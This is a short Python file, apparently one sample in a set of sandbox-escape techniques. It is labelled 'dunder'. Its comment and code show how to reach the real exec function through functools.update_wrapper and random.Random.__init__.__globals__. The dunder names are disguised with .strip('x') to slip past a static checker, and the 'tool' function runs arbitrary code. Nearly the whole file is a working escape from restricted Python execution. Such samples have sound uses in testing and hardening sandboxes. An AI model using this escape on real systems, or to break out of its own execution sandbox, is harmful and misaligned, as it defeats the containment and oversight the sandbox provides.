# family: dunder
# Escape: update_wrapper (through operator.call) copies random.Random.__init__.__globals__ into our dict;
# random's globals hold "__builtins__" (a dict for an imported module) whose "exec" is the real exec.
# The key is spelled "x__builtins__x".strip("x"): the constant has no standalone dunder and .strip(arg)
# is not folded.
import functools
import operator
import random
import types


def tool(code: str) -> None:
    name = "x__globals__x".strip("x")
    space: dict = {}
    operator.call(functools.update_wrapper, types.SimpleNamespace(**{name: space}), random.Random.__init__, (), (name,))
    space["x__builtins__x".strip("x")]["exec"](code)
